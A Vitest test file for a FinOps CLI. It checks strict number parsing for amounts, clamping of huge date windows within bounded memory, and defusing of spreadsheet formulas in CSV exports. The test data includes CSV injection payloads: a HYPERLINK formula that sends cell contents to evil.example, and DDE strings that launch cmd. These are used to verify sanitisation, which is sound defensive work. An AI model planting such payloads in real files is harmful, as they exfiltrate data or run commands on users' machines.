import {parse} from 'csv-parse/sync'
import fs from 'node:fs'
import path from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {type CliResult, fixturesDir, parseJson, runCli, tempDir} from '../helpers/cli.js'
import {snapshotTree} from '../helpers/fs-snapshot.js'

/**
 * Numbers are numbers (one unambiguous format for amounts on the command line), work is bounded for
 * any window (a window of centuries is clamped to the stored days or refused, in bounded memory),
 * and every CSV output defuses spreadsheet formulas in text cells while leaving numbers alone.
 */

const env = {FINOPS_NOW: '2024-10-02'}
const FOCUS = path.join(fixturesDir, 'focus', 'focus_sample_1000.csv')

const oneLine = (r: CliResult): string => {
  const lines = r.stderr.trimEnd().split('\n')
  expect(lines, r.stderr).toHaveLength(1)
  return lines[0]!
}

/**
 * The FOCUS sample with hostile text in its dimensions: service names and tag values that a
 * spreadsheet would run as formulas. The costs stay as they are (some are negative credits below).
 */
function hostileFocusFile(dir: string): string {
  const rows = parse(fs.readFileSync(FOCUS), {columns: true}) as Record<string, string>[]
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"invoice")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ]
  rows.forEach((row, i) => {
    if (i % 7 === 0) row.ServiceName = hostile[(i / 7) % hostile.length]!
    if (i % 5 === 0) row.Tags = JSON.stringify({team: hostile[(i / 5) % hostile.length]})
    if (i === 3) {
      row.BilledCost = '-12.5'
      row.EffectiveCost = '-12.5'
    }
  })
  const columns = Object.keys(rows[0]!)
  const quote = (v: string) => (v === 'NULL' ? 'NULL' : `"${v.replaceAll('"', '""')}"`)
  const text = [columns.map(quote).join(','), ...rows.map((r) => columns.map((c) => quote(r[c]!)).join(','))].join('\n')
  const file = path.join(dir, 'hostile.csv')
  fs.writeFileSync(file, `${text}\n`)
  return file
}

describe('numbers, windows and CSV cells (built CLI)', () => {
  let tmp: ReturnType<typeof tempDir>
  let db: string

  beforeAll(async () => {
    tmp = tempDir()
    db = path.join(tmp.dir, 'finops.db')
    const r = await runCli(['collect', 'focus', hostileFocusFile(tmp.dir), '--db', db], {env})
    expect(r.code, r.stderr).toBe(0)
    const b = await runCli(['budget', 'set', 'prod', '--amount', '1000', '--db', db], {env})
    expect(b.code, b.stderr).toBe(0)
  })
  afterAll(() => tmp.cleanup())

  it.each([
    ['1,5'],
    ['1.000,50'],
    ['1,000'],
    ['10 000'],
    ['1_000'],
    ['0x10'],
    ['0b101'],
    ['1e3'],
    ['1e308'],
    ['1e400'],
    ['Infinity'],
    ['-Infinity'],
    ['NaN'],
    ['-5'],
    ['0'],
    ['10000000000000'],
    ['１０'],
    ['١٠'],
    ['$100'],
    ['100 EUR'],
    ['.5'],
    ['5.'],
  ])('budget set --amount %s: exit 2, one line saying the format, store unchanged', async (amount) => {
    const before = snapshotTree(tmp.dir)
    for (const name of ['prod', 'new-budget']) {
      const r = await runCli(['budget', 'set', name, '--amount', amount, '--db', db], {env})
      expect(r.code, r.stderr).toBe(2)
      expect(oneLine(r)).toMatch(/--amount .*(expected a plain number with "\." as the decimal point|out of range)/)
    }
    expect(snapshotTree(tmp.dir)).toEqual(before)
  })

  it('accepts plain amounts exactly as typed', async () => {
    for (const [typed, stored] of [
      ['10000', 10000],
      ['1234.50', 1234.5],
      ['+0.01', 0.01],
      ['999999999999', 999999999999],
    ] as const) {
      const r = await runCli(['budget', 'set', 'exact', '--amount', typed, '--db', db], {env})
      expect(r.code, r.stderr).toBe(0)
      const list = parseJson<{budgets: {name: string; amount: number}[]}>(
        await runCli(['budget', 'list', '--db', db, '--json'], {env}),
      )
      expect(list.budgets.find((b) => b.name === 'exact')?.amount).toBe(stored)
    }
  })

  it('thresholds and --min-savings take the same format', async () => {
    const before = snapshotTree(tmp.dir)
    for (const argv of [
      ['budget', 'set', 'prod', '--actual-threshold', '0x50'],
      ['budget', 'set', 'prod', '--actual-threshold', '8e1'],
      ['budget', 'set', 'prod', '--forecast-threshold', '1e2'],
      ['budget', 'set', 'prod', '--forecast-threshold', 'Infinity'],
      ['budget', 'set', 'prod', '--actual-threshold', '5000'],
      ['recommend', '--min-savings', '1e3'],
      ['recommend', '--min-savings', '-1'],
      ['recommend', '--min-savings', '1,5'],
    ]) {
      const r = await runCli([...argv, '--db', db], {env})
      expect(r.code, `${argv.join(' ')}: ${r.stderr}`).toBe(2)
      expect(oneLine(r)).toContain(argv.at(-2)!)
    }
    expect(snapshotTree(tmp.dir)).toEqual(before)
  })

  it('cost report over 0001-01-01..9999-12-31 is clamped to the stored days, says so, in bounded memory', async () => {
    const before = snapshotTree(tmp.dir)
    // A heap of 128 MB: enumerating three million days per row would not fit.
    const small = {...env, NODE_OPTIONS: '--max-old-space-size=128'}
    for (const granularity of ['total', 'day', 'month']) {
      const r = await runCli(
        [
          'cost',
          'report',
          '--db',
          db,
          '--from',
          '0001-01-01',
          '--to',
          '9999-12-31',
          '--granularity',
          granularity,
          '--json',
        ],
        {env: small},
      )
      expect(r.code, r.stderr).toBe(0)
      const json = parseJson<{from: string; to: string; periods: string[]}>(r)
      expect([json.from, json.to]).toEqual(['2024-09-01', '2024-09-30'])
      expect(json.periods.length).toBeLessThanOrEqual(30)
    }
    const human = await runCli(['cost', 'report', '--db', db, '--from', '0001-01-01'], {env: small})
    expect(human.code, human.stderr).toBe(0)
    expect(human.stderr).toMatch(/spans .* days: showing 2024-09-01 to 2024-09-30, the days the store holds costs for/)
    expect(snapshotTree(tmp.dir)).toEqual(before)
  })

  it('a wide window with no stored days, allocation and collection windows above their maximum: exit 2, one line', async () => {
    const before = snapshotTree(tmp.dir)
    const cases: [string[], RegExp][] = [
      [['cost', 'report', '--from', '2024-11-01', '--to', '9999-12-31'], /more than the 3,660 .* no costs in it/],
      [['cost', 'allocation', '--from', '0001-01-01'], /cost allocation covers at most 366 days/],
      [['cost', 'report', '--source', 'k8s', '--from', '0001-01-01', '--to', '9999-12-31'], /at most 366 days/],
      [
        ['collect', 'aws', '--from', '0001-01-01', '--endpoint', 'http://127.0.0.1:1', '--billing-account', 'x'],
        /a collection covers at most 3,660 days/,
      ],
      [
        ['collect', 'azure', '--scope', '/subscriptions/x', '--to', '9999-12-31', '--from', '2024-01-01'],
        /at most 3,660 days/,
      ],
    ]
    for (const [argv, message] of cases) {
      const r = await runCli([...argv, '--db', db], {env: {...env, NODE_OPTIONS: '--max-old-space-size=128'}})
      expect(r.code, `${argv.join(' ')}: ${r.stderr}`).toBe(2)
      expect(oneLine(r)).toMatch(message)
    }
    expect(snapshotTree(tmp.dir)).toEqual(before)
  })

  it('cost export and forecast over any window stay bounded (streamed, or starting at the data)', async () => {
    const small = {...env, NODE_OPTIONS: '--max-old-space-size=128'}
    const exported = await runCli(['cost', 'export', '--db', db, '--from', '0001-01-01', '--to', '9999-12-31'], {
      env: small,
    })
    expect(exported.code, exported.stderr).toBe(0)
    const rows = parse(exported.stdout, {columns: true}) as Record<string, string>[]
    expect(new Set(rows.map((r) => r.ChargePeriodStart)).size).toBe(30)
    const forecast = await runCli(['forecast', '--db', db, '--from', '0001-01-01', '--json'], {env: small})
    expect([0, 3]).toContain(forecast.code)
  })

  it('every CSV output defuses formulas in text cells and leaves numbers as numbers', async () => {
    const outputs: Record<string, string> = {}
    const csv = async (name: string, argv: string[]): Promise<void> => {
      const r = await runCli([...argv, '--db', db], {env})
      expect(r.code, `${name}: ${r.stderr}`).toBe(0)
      outputs[name] = r.stdout
    }
    await csv('export', ['cost', 'export', '--from', '2024-09-01'])
    await csv('export by tag', ['cost', 'export', '-g', 'service,tag:team', '--granularity', 'month'])
    await csv('report', ['cost', 'report', '-g', 'service', '--from', '2024-09-01', '--to', '2024-09-30', '--csv'])
    await csv('report by tag', [
      'cost',
      'report',
      '-g',
      'tag:team',
      '--from',
      '2024-09-01',
      '--csv',
      '--granularity',
      'week',
    ])
    const outFile = path.join(tmp.dir, 'export.csv')
    const toFile = await runCli(['cost', 'export', '--db', db, '--out', outFile, '-g', 'service'], {env})
    expect(toFile.code, toFile.stderr).toBe(0)
    outputs['export --out'] = fs.readFileSync(outFile, 'utf8')

    let hostileSeen = 0
    let negativeNumbers = 0
    for (const [name, text] of Object.entries(outputs)) {
      const cells = (parse(text, {relax_column_count: true}) as string[][]).flat()
      for (const cell of cells) {
        if (/^-\d+(\.\d+)?$/.test(cell)) {
          negativeNumbers++
          continue
        }
        expect(cell, `${name}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
        if (/^'[=+\-@\t\r]/.test(cell)) hostileSeen++
      }
    }
    expect(hostileSeen).toBeGreaterThan(10)
    // The credit row's negative costs are numbers, not defused text.
    expect(negativeNumbers).toBeGreaterThan(0)
    expect(outputs.export).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""invoice"")"`)
  })
})
